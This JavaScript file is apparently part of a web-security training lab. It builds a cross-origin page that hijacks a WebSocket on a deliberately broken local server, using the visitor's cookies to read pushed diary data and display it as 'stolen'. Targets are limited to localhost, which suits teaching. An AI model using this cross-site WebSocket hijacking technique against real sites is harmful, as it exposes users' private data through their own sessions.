/** A page of another origin that reads by its visitor's cookie what another server pushes, if that server lets it. */

import { el } from '/web/kit/dom.js';
import { supported, t, translate } from '/web/kit/i18n.js';
import { loadMessages } from '/web/kit/messages.js';
import * as preferences from '/web/kit/preferences.js';

const result = el('p', { id: 'result', role: 'status' });
const victim = victimOf(preferences.parameter('of') ?? '');
let words = 'websocket.foreign.none';
let value = '';

/** A server on this machine, as {@code ws://host:port}; nothing else is attacked. */
function victimOf(host) {
  const match = /^(127\.0\.0\.1|localhost)(:[0-9]{1,5})?$/.exec(host);
  return match === null ? null : `${location.protocol === 'https:' ? 'wss' : 'ws'}://${host}`;
}

function attack() {
  const socket = new WebSocket(`${victim}/broken/websocket/diary`);
  socket.onmessage = ({ data }) => {
    show('websocket.foreign.stolen', data);
  };
  socket.onclose = ({ code }) => {
    if (words !== 'websocket.foreign.stolen') {
      show('websocket.foreign.refused', String(code));
    }
  };
}

function show(key, what) {
  words = key;
  value = what;
  result.textContent = t(key, value);
  result.dataset.tone = key === 'websocket.foreign.stolen' ? 'bad' : 'ok';
}

async function begin() {
  preferences.startPreferences();
  await loadMessages('websocket', supported(preferences.parameter('lang') ?? navigator.language));
  const page = el('main', { class: 'work' },
    el('h1', { 'data-text': 'websocket.foreign.title' }),
    el('p', {}, t('websocket.foreign.intro', location.origin, victim ?? '–')),
    el('div', { class: 'card workbench' }, result));
  document.body.replaceChildren(page);
  translate(document);
  if (victim === null) {
    show('websocket.foreign.none', '');
  } else {
    attack();
  }
}

begin();
